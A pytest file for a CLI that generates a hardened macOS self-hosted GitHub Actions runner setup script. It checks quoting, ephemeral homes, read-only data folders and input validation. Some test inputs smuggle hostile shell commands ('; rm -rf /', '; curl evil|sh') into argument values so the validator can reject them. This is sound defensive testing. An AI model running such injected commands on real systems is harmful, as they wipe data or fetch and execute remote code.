"""`pgolf runner` prints an ephemeral, dedicated-user runner setup; `pgolf init` tells the truth
about forks."""

from __future__ import annotations

import subprocess
from pathlib import Path

from click.testing import CliRunner

from bot.cli import cli
from bot.errors import InputError


def test_runner_script_is_ephemeral_dedicated_and_read_only_data(tmp_path: Path) -> None:
    res = CliRunner().invoke(cli, ["runner", "--repo", "me/lab", "--data-dir", "/Users/Shared/golf data"])
    assert res.exit_code == 0, res.output
    out = res.output
    assert "--ephemeral" in out and 'sudo -u "$RUNNER_USER" ./config.sh' in out
    assert "sysadminctl -addUser pgolf-runner" in out and "UserShell /usr/bin/false" in out
    assert "chmod -R a+rX,go-w '/Users/Shared/golf data'" in out  # quoted, read-only to the runner
    assert 'rm -rf "$RUNNER_HOME"\n' in out and 'mkdir -m 700 "$RUNNER_HOME"' in out  # a fresh home per job
    assert "pip install numpy sentencepiece huggingface_hub" in out and "python3.11 -m venv" in out
    assert "System.keychain" in out and "ADMIN_TOKEN" not in out.split("sudo -u")[-1].split("\n")[0]
    script = tmp_path / "setup.sh"
    script.write_text(out)
    assert subprocess.run(["bash", "-n", str(script)], capture_output=True).returncode == 0


def test_runner_refuses_bad_input() -> None:
    res = CliRunner().invoke(cli, ["runner", "--repo", "me/lab; rm -rf /"])
    assert res.exit_code == InputError.exit_code and "--repo" in res.output
    res = CliRunner().invoke(cli, ["runner", "--repo", "me/lab", "--user", "Root Admin"])
    assert res.exit_code == InputError.exit_code and "--user" in res.output


def test_init_output_tells_the_truth_about_forks_and_keys(tmp_path: Path) -> None:
    res = CliRunner().invoke(cli, ["init", str(tmp_path / "lab"), "--no-git"])
    assert res.exit_code == 0, res.output
    text = " ".join(res.output.split())
    assert "Require approval for all outside collaborators" in text
    assert "environment `pgolf`" in text and "Deployment branches = the default branch only" in text
    assert "EPHEMERAL" in text and "pgolf runner" in text
    assert "bypass list" in text  # branch protection consistent with the App pushing every ledger commit


def test_runner_addresses_and_install_dir_are_checked() -> None:
    """The admin token travels to the API address: plain http only on loopback (the emulator);
    GHES gets SERVER/api/v3 unless told otherwise; the install folder goes into root's script."""
    from bot.forge.runner import RunnerPlan

    assert RunnerPlan("me/lab").api_base == "https://api.github.com"
    assert (
        RunnerPlan("me/lab", server="https://ghe.example.com/").api_base == "https://ghe.example.com/api/v3"
    )
    for args in (
        ["--github-url", "http://ghe.example.com"],
        ["--api-url", "http://10.0.0.5/api/v3"],
        ["--github-url", "https://ghe.example.com; curl evil|sh"],
        ["--install-dir", "/usr/local/pgolf runner"],
        ["--install-dir", "relative/dir"],
    ):
        _refused(args)
    res = CliRunner().invoke(cli, ["runner", "--repo", "me/lab", "--github-url", "https://ghe.example.com"])
    assert res.exit_code == 0 and "SERVER=https://ghe.example.com\n" in res.output
    assert "API=https://ghe.example.com/api/v3\n" in res.output and "api.github.com" not in res.output


def test_runner_refuses_system_users_and_folders() -> None:
    """Second review: `--user root` made the supervisor `pkill -u root` and run jobs as root;
    `--home /` had root wipe and chown system folders; `--data-dir /` printed `chown … /`; an
    install folder under /Users is writable by a user, and root runs the supervisor from it."""
    for args in (
        ["--user", "root"],
        ["--user", "_www"],
        ["--home", "/"],
        ["--home", "/Users/Shared"],
        ["--home", "/Users/pgolf-runner/../.."],
        ["--data-dir", "/"],
        ["--data-dir", "/Users"],
        ["--install-dir", "/Users/Shared/pgolf-runner"],
        ["--install-dir", "/usr/local"],
        ["--runner-version", "2.3; curl evil | sh"],
        # third review: what a list of exact top-level folders let through
        ["--home", "/System/Volumes/Data"],
        ["--home", "/users/shared"],  # APFS is case-insensitive: /Users/Shared
        ["--home", "/private/var/root"],
        ["--home", "/Users/admin"],  # another user's home
        ["--home", "/Users/Shared/pgolf-data"],
        ["--data-dir", "/private/etc"],
        ["--data-dir", "/Users/admin"],
        ["--install-dir", "/tmp/pgolf"],
        ["--install-dir", "/users/shared/pgolf"],
        ["--install-dir", "/System/Volumes/Data/Users/Shared/x"],
    ):
        _refused(args)
    from bot.forge.runner import RunnerPlan

    for spelling in ("https://GitHub.com", "https://github.com:443", "https://www.github.com/"):
        assert RunnerPlan("me/lab", server=spelling).api_base == "https://api.github.com", spelling


def test_runner_version_is_chosen_and_lands_in_the_download() -> None:
    res = CliRunner().invoke(cli, ["runner", "--repo", "me/lab", "--runner-version", "2.330.0"])
    assert res.exit_code == 0
    assert "releases/download/v2.330.0/actions-runner-osx-arm64-2.330.0.tar.gz" in res.output


def test_runner_folders_never_overlap() -> None:
    """Third review: home = install folder had root delete its own template and supervisor before
    every job (wedged for good); home = data folder deleted the shards every job."""
    for args in (
        ["--home", "/Users/pgolf-runner", "--install-dir", "/usr/local/pgolf-runner"],  # fine
        ["--data-dir", "/Users/pgolf-runner/data"],  # inside the home root wipes
        ["--data-dir", "/usr/local/pgolf-runner/data"],  # inside the install folder
    ):
        res = CliRunner().invoke(cli, ["runner", "--repo", "me/lab", *args])
        assert (res.exit_code == 0) == (args[0] == "--home"), (args, res.output)
        if res.exit_code:
            assert "must not overlap" in res.output or "system folder" in res.output, res.output
    res = CliRunner().invoke(cli, ["runner", "--repo", "me/lab", "--data-dir", "/Users/pgolf-runner/data"])
    assert "--home': must not overlap --data-dir" in res.output, res.output


def _refused(args: list[str]) -> None:
    """`pgolf runner` with ``args`` exits as bad input, naming the option."""
    res = CliRunner().invoke(cli, ["runner", "--repo", "me/lab", *args])
    assert res.exit_code == InputError.exit_code and args[0] in res.output, (args, res.output)
